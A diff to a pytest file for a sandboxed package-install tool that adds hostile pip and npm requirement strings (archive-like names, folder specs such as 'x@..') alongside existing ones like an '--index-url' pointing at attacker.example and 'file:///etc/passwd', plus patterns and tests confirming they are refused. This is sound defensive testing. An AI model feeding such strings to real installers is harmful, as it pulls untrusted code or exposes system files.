@@ -4,6 +4,7 @@ the package registry through the egress proxy, inside a sandbox."""
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import socket
 from pathlib import Path
@@ -15,7 +16,7 @@ from mcp import Client
 
 from bastion.packages import check_requirement
 from bastion.safety.errors import InvalidRequest
-from tests.helpers import call, create
+from tests.helpers import call, create, sh
 
 HOSTILE = [
     "--index-url http://attacker.example/simple evilpkg",
@@ -34,7 +35,21 @@ HOSTILE = [
     "file:///etc/passwd",
     "",
     "x" * 300,
+    # Names pip reads as a file in the current folder, whether it exists or not.
+    "evil-1.0.tar.gz",
+    "evil.whl",
+    "evil.WHL[extra]",
+    "evil[extra]==1.zip",
+    "evil==1.tar.lzma",
 ]
+# Specs npm reads as a folder or a tarball: "x@.." installs the folder "..".
+NPM_HOSTILE = ["x@..", "x@.", "x@./y", "x.tgz", "x@1.tar", "x@1.TAR.GZ", "@s/x@.."]
+# pip's archive suffixes (pip/_internal/utils/filetypes.py) and npm-package-arg's file patterns,
+# written out here so that the property below does not check the grammar against itself.
+PIP_ARCHIVES = (".whl", ".zip", ".tar.bz2", ".tbz", ".tar.xz", ".txz", ".tlz", ".tar.lz", ".tar.lzma", ".tar.gz")
+PIP_ARCHIVES += (".tgz", ".tar")
+NPM_FILESPEC = re.compile(r"^(?:[.]|~[/]|[/]|[a-zA-Z]:)")
+NPM_FILENAME = re.compile(r"[.](?:tgz|tar.gz|tar)$", re.IGNORECASE)
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -53,7 +68,9 @@ def test_plain_npm_specs_pass(text: str) -> None:
     assert check_requirement(text, "npm") == text
 
 
-@pytest.mark.parametrize("text", ["git+https://x/y.git", "file:../x", "npm:lodash", "../x", "-g lodash", "a b"])
+@pytest.mark.parametrize(
+    "text", ["git+https://x/y.git", "file:../x", "npm:lodash", "../x", "-g lodash", "a b", *NPM_HOSTILE]
+)
 def test_npm_refuses_urls_paths_aliases_and_options(text: str) -> None:
     with pytest.raises(InvalidRequest):
         check_requirement(text, "npm")
@@ -76,6 +93,21 @@ def test_whatever_passes_cannot_carry_an_option_url_or_path(text: str) -> None:
             assert "/" not in accepted
             assert "@" not in accepted
             assert ";" not in accepted
+            # pip strips trailing extras, then takes an archive-like name for a file.
+            bare = re.sub(r"\[[^\]]+\]$", "", accepted)
+            assert not bare.lower().endswith(PIP_ARCHIVES), accepted
+        else:
+            name, at, spec = accepted[1:].partition("@") if accepted.startswith("@") else accepted.partition("@")
+            assert not NPM_FILENAME.search(name), accepted
+            assert not (at and (NPM_FILESPEC.search(spec) or NPM_FILENAME.search(spec))), accepted
+
+
+@given(st.from_regex(r"@?[a-z0-9]{1,3}(/[a-z0-9]{1,3})?@[.~/A-Za-z0-9]{1,6}(\.(tgz|tar|TAR|tar\.gz))?", fullmatch=True))
+def test_npm_specs_that_npm_reads_as_files_are_refused(text: str) -> None:
+    name, _, spec = text[1:].partition("@") if text.startswith("@") else text.partition("@")
+    if NPM_FILESPEC.search(spec) or NPM_FILENAME.search(spec) or NPM_FILENAME.search(name):
+        with pytest.raises(InvalidRequest):
+            check_requirement(text, "npm")
 
 
 def registry_reachable(host: str = "pypi.org") -> bool:
@@ -90,9 +122,13 @@ def registry_reachable(host: str = "pypi.org") -> bool:
 @pytest.mark.bwrap
 async def test_hostile_requirements_are_refused_by_the_tool(client: Client) -> None:
     sandbox = await create(client)
-    for text in HOSTILE[:6]:
-        result = await call(client, "install_package", name=text, sandbox_id=sandbox)
+    cases = [(text, "pip") for text in (*HOSTILE[:6], *HOSTILE[-5:])] + [(text, "npm") for text in NPM_HOSTILE]
+    for text, manager in cases:
+        result = await call(client, "install_package", name=text, manager=manager, sandbox_id=sandbox)
         assert result["code"] == "INVALID_REQUEST", (text, result)
+        assert result["detail"] == {}, result
+    listed = await sh(client, sandbox, "ls -A /workspace")
+    assert listed["detail"]["stdout"] == "", "a refused install left something behind"
     host = await call(client, "install_package", name="requests", sandbox_id="default")
     assert host["code"] == "POLICY_DENIED"
 
